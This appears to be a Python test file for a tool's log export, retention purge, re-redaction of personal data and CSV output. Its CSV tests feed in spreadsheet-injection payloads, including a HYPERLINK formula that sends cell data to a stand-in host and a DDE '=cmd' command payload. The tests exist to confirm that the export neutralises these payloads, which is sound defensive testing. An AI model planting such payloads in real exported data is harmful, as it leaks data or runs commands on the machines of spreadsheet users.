"""``infoshare logs export``, ``purge``, ``redact-again`` and ``withhold`` in a real subprocess,
and the server's purge and redacting again."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import logging
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path

import aiohttp
import pytest

from adapters.http import create_app
from bot.engine import Engine
from bot.exports import csv_cells
from bot.knowledge import Knowledge
from bot.models import DecisionRecord, QueryRecord
from bot.pseudonym import Pseudonymiser
from bot.settings import Settings
from bot.storage import StorageError
from bot.storage.memory import MemoryConversationStore, MemoryDecisionLog, MemoryQueryLog
from bot.storage.sqlite import SqliteDecisionLog
from bot.storage.sqlite_queries import SqliteQueryLog
from tests.adapters.test_cli import infoshare, lines
from tests.adapters.test_http import _plain, running

NAME, DOB = "Jayden Okonkwo", "03/04/2011"


def old_record(days_ago: int, now: dt.datetime) -> QueryRecord:
    return QueryRecord(id=f"old-{days_ago}", time=now - dt.timedelta(days=days_ago),
                       channel="cli", user="u_x", text="old", kind="question", topic="police",
                       confidence=0.5, helped=True)  # fmt: skip


async def seed(path: Path, *records: QueryRecord) -> None:
    log = SqliteQueryLog(path)
    for record in records:
        await log.record(record)
    await log.close()


def test_typed_messages_export_redacted_as_jsonl_and_csv(tmp_path: Path) -> None:
    said = lines(
        {"conversation": "A", "user": "u1", "text": f"police want {NAME}'s file, dob {DOB}"},
        {"conversation": "A", "user": "u1", "choice": "no"},
        {"conversation": "A", "user": "u1", "text": "how do I book annual leave"},
    )
    done = infoshare("chat", "--json", stdin=said, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout.splitlines()[0])["text"].startswith("Just so you know")
    assert NAME not in done.stderr and DOB not in done.stderr

    exported = infoshare("logs", "export", cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    # Within an hour records come in id order, not the order typed: the hour is all it says.
    records = sorted((json.loads(line) for line in exported.stdout.splitlines()),
                     key=lambda r: r["topic"])  # fmt: skip
    assert [(r["kind"], r["topic"], r["helped"]) for r in records] == [
        ("question", "police", True), ("question", "unknown", False)]  # fmt: skip
    assert NAME not in exported.stdout and DOB not in exported.stdout
    assert "[NAME]" in records[0]["text"] and records[0]["time"].endswith(":00:00Z")
    assert records[0]["user"].startswith("u_") and records[0]["user"] != "u1"

    as_csv = infoshare("logs", "export", "--format", "csv", "--since", "2000-01-01", cwd=tmp_path)
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert sorted(r["topic"] for r in rows) == ["police", "unknown"]
    assert list(rows[0]) == list(QueryRecord.model_fields)
    future = infoshare("logs", "export", "--since", "2999-01-01", cwd=tmp_path)
    assert (future.returncode, future.stdout) == (0, "")


def test_purge_deletes_what_is_older_than_the_retention(tmp_path: Path) -> None:
    now = dt.datetime.now(dt.UTC)
    records = [old_record(d, now) for d in (400, 40, 2)]
    asyncio.run(seed(tmp_path / "infoshare.db", *records))
    default = infoshare("logs", "purge", cwd=tmp_path)
    assert default.returncode == 0, default.stderr
    assert default.stdout.startswith("1 query log and flow progress records older than 365 days")
    month = infoshare("logs", "purge", env={"INFOSHARE_QUERY_LOG_DAYS": "30"}, cwd=tmp_path)
    assert month.stdout.startswith("1 query log and flow progress records older than 30 days")
    left = infoshare("logs", "export", cwd=tmp_path)
    assert [json.loads(line)["id"] for line in left.stdout.splitlines()] == ["old-2"]


def test_retention_must_be_a_day_or_more_and_a_missing_log_is_said(tmp_path: Path) -> None:
    for days in ("0", "36501", "99999999999999999999"):  # too far back to compute: no traceback
        bad = infoshare("logs", "purge", env={"INFOSHARE_QUERY_LOG_DAYS": days}, cwd=tmp_path)
        assert bad.returncode == 2, days
        assert "INFOSHARE_QUERY_LOG_DAYS must be from 1 to 36500" in bad.stderr
        assert "Traceback" not in bad.stderr
    missing = infoshare("logs", "export", cwd=tmp_path)
    assert missing.returncode == 1 and "no query log" in missing.stderr
    assert not (tmp_path / "infoshare.db").exists()


async def test_the_server_purges_at_start_up_by_its_clock_and_stops_at_shutdown(
    tmp_path: Path, knowledge: Knowledge
) -> None:
    now = dt.datetime(2027, 6, 1, 12, tzinfo=dt.UTC)  # the engine's clock, not the wall's
    settings = _plain(tmp_path)
    path = settings.database_path
    assert path is not None
    await seed(path, *(old_record(d, now) for d in (366, 364)))

    @asynccontextmanager
    async def opened(settings: Settings) -> AsyncIterator[Engine]:
        decisions, queries = SqliteDecisionLog(path), SqliteQueryLog(path)
        try:
            yield Engine(knowledge, MemoryConversationStore(), decisions,
                         Pseudonymiser(b"test-key-0123456789"), clock=lambda: now,
                         queries=queries)  # fmt: skip
        finally:
            await queries.close()
            await decisions.close()

    app = create_app(settings, [], opened, purge_every=3600)
    async with running(app):
        log = SqliteQueryLog(path)
        left = [r.id async for r in log.export()]
        await log.close()
        assert [t for t in asyncio.all_tasks() if "_purge_daily" in repr(t.get_coro())]
    assert left == ["old-364"]  # purged before the server took a request
    assert not [t for t in asyncio.all_tasks() if "_purge_daily" in repr(t.get_coro())]


async def redacting_done() -> None:
    """Wait for the server's redacting again: it runs in the background, serving meanwhile."""
    while [
        t
        for t in asyncio.all_tasks()
        if getattr(t.get_coro(), "__qualname__", "") == "_redact_again"
    ]:
        await asyncio.sleep(0.01)


def leaked(n: int) -> QueryRecord:
    """A record as rules that missed the name and address would have stored it."""
    return QueryRecord(id=f"leak-{n}", time=dt.datetime(2026, 11, 2, 9, tzinfo=dt.UTC),
                       channel="cli", user="u_x", text=f"police want {NAME}'s file, at 22 "
                       "Holme Rise, Keighley BD21 4NW", kind="question", topic="police",
                       confidence=0.5, helped=True)  # fmt: skip


FIXED = "police want [NAME]'s file, at [ADDRESS], Keighley [POSTCODE]"


def test_redact_again_and_withhold_from_the_command_line(tmp_path: Path) -> None:
    clean = old_record(1, dt.datetime.now(dt.UTC))
    asyncio.run(seed(tmp_path / "infoshare.db", leaked(1), clean))
    again = infoshare("logs", "redact-again", cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert again.stdout.startswith("2 query log records redacted again with the current rules: 1")
    exported = infoshare("logs", "export", cwd=tmp_path).stdout
    texts = {json.loads(line)["id"]: json.loads(line)["text"] for line in exported.splitlines()}
    assert texts == {"leak-1": FIXED, clean.id: "old"}

    withheld = infoshare("logs", "withhold", "leak-1", cwd=tmp_path)
    assert (withheld.returncode, withheld.stdout) == (0, "1 query log record withheld\n")
    exported = infoshare("logs", "export", "--format", "csv", cwd=tmp_path).stdout
    assert "[WITHHELD]" in exported and "[ADDRESS]" not in exported
    typo = infoshare("logs", "withhold", "leak-1", "leak-9", cwd=tmp_path)
    assert typo.returncode == 1
    assert "not in the query log (purged, or mistyped): leak-9;" in typo.stderr
    assert typo.stdout == "1 query log record withheld\n"  # the one it knew is still done
    nothing = infoshare("logs", "withhold", cwd=tmp_path)
    assert nothing.returncode == 2 and "ID" in nothing.stderr


async def test_the_server_redacts_the_log_again_once_after_the_rules_change(
    tmp_path: Path, knowledge: Knowledge
) -> None:
    settings = _plain(tmp_path)
    path = settings.database_path
    assert path is not None
    await seed(path, leaked(1))  # written before these rules: nothing marks its version

    @asynccontextmanager
    async def opened(settings: Settings) -> AsyncIterator[Engine]:
        decisions, queries = SqliteDecisionLog(path), SqliteQueryLog(path)
        try:
            yield Engine(knowledge, MemoryConversationStore(), decisions,
                         Pseudonymiser(b"test-key-0123456789"), queries=queries)  # fmt: skip
        finally:
            await queries.close()
            await decisions.close()

    async def texts() -> dict[str, str]:
        log = SqliteQueryLog(path)
        try:
            return {r.id: r.text async for r in log.export()}
        finally:
            await log.close()

    async with running(create_app(settings, [], opened)):
        await asyncio.wait_for(redacting_done(), 10)
    assert await texts() == {"leak-1": FIXED}
    await seed(path, leaked(2))  # as if written by these rules: the server leaves it alone
    async with running(create_app(settings, [], opened)):
        await asyncio.wait_for(redacting_done(), 10)
    assert (await texts())["leak-2"] == leaked(2).text


class BrokenLog(MemoryQueryLog):
    async def amend(self, texts: Mapping[str, str]) -> set[str]:
        raise StorageError(f"disk full while writing {list(texts.values())}")


async def test_a_failure_to_redact_again_is_logged_and_the_server_serves(
    tmp_path: Path, knowledge: Knowledge, caplog: pytest.LogCaptureFixture
) -> None:
    queries = BrokenLog()
    await queries.record(leaked(1))

    @asynccontextmanager
    async def opened(settings: Settings) -> AsyncIterator[Engine]:
        yield Engine(knowledge, MemoryConversationStore(), MemoryDecisionLog(),
                     Pseudonymiser(b"test-key-0123456789"), queries=queries)  # fmt: skip

    with caplog.at_level(logging.INFO):
        async with running(create_app(_plain(tmp_path), [], opened)) as url:
            await asyncio.wait_for(redacting_done(), 10)
            async with aiohttp.ClientSession() as session, session.get(url + "/healthz") as got:
                assert got.status == 200
    assert "redacting again failed (tried at the next start): StorageError" in caplog.text
    assert NAME not in caplog.text  # the error's type only: its message could hold a text
    assert await queries.redacted_with() is None  # so the next start tries again


# CSV that a spreadsheet opens safely --------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2", "@SUM(1)",
            "\tcmd", "\r=1+1"]  # fmt: skip


def typed(i: int, text: str, helped: bool = True) -> QueryRecord:
    return QueryRecord(id=f"t{i}", time=dt.datetime(2026, 11, 2, 9, tzinfo=dt.UTC),
                       channel="web", user="u_x", text=text, kind="question",
                       topic="police" if helped else "unknown", confidence=0.5,
                       helped=helped)  # fmt: skip


def test_csv_cells_neutralise_formulas_and_write_booleans_as_json_does() -> None:
    assert csv_cells(["=1+1", "+1", "-2", "@SUM(1)", "\tx", "\rx"]) == [
        "'=1+1", "'+1", "'-2", "'@SUM(1)", "'\tx", "'\rx"]  # fmt: skip
    assert csv_cells(["a=1", " =1", "", None, True, False, 0.5, 3]) == [
        "a=1", " =1", "", "", "true", "false", "0.5", "3"]  # fmt: skip
    assert csv_cells([dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.UTC)]) == ["2026-11-02T09:30:00Z"]


def test_the_query_log_csv_neutralises_formulas_and_jsonl_keeps_them_exact(
    tmp_path: Path,
) -> None:
    records = [typed(i, text) for i, text in enumerate(FORMULAS)]
    records.append(typed(len(FORMULAS), "wifi code", helped=False))
    asyncio.run(seed(tmp_path / "infoshare.db", *records))
    env = {"INFOSHARE_PSEUDONYM_KEY": "test-pseudonym-key-0123"}
    as_csv = infoshare("logs", "export", "--format", "csv", env=env, cwd=tmp_path)
    assert as_csv.returncode == 0, as_csv.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(as_csv.stdout, newline=""))}
    for i, text in enumerate(FORMULAS):  # (reading the output as text turns \r into \n)
        assert rows[f"t{i}"]["text"] == "'" + text.replace("\r", "\n")
    assert rows[f"t{len(FORMULAS)}"]["text"] == "wifi code"
    # Booleans as in JSON lines: true and false, not Python's True and False.
    assert {r["helped"] for r in rows.values()} == {"true", "false"}
    assert "True" not in as_csv.stdout and "False" not in as_csv.stdout
    as_jsonl = infoshare("logs", "export", env=env, cwd=tmp_path)
    exact = {r["id"]: r for r in map(json.loads, as_jsonl.stdout.splitlines())}
    assert [exact[f"t{i}"]["text"] for i in range(len(FORMULAS))] == FORMULAS
    assert exact[f"t{len(FORMULAS)}"]["helped"] is False


def test_the_decisions_csv_neutralises_formulas_too(tmp_path: Path) -> None:
    async def record() -> None:
        log = SqliteDecisionLog(tmp_path / "infoshare.db")
        await log.record(DecisionRecord(id="D-1", time=dt.datetime(2026, 11, 2, tzinfo=dt.UTC),
                                        channel="web", user="=cmd|' /C calc'!A0", topic="police",
                                        answers=[("purpose", "-2")], outcome="@share",
                                        knowledge_version="+v"))  # fmt: skip
        await log.close()

    asyncio.run(record())
    env = {"INFOSHARE_PSEUDONYM_KEY": "test-pseudonym-key-0123"}
    done = infoshare("decisions", "export", "--format", "csv", env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    [row] = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert row["user"] == "'=cmd|' /C calc'!A0" and row["outcome"] == "'@share"
    assert row["knowledge_version"] == "'+v" and row["answers"] == "purpose=-2"
    assert row["revises"] == "" and row["time"] == "2026-11-02T00:00:00Z"
    exact = infoshare("decisions", "export", env=env, cwd=tmp_path)
    assert json.loads(exact.stdout)["user"] == "=cmd|' /C calc'!A0"
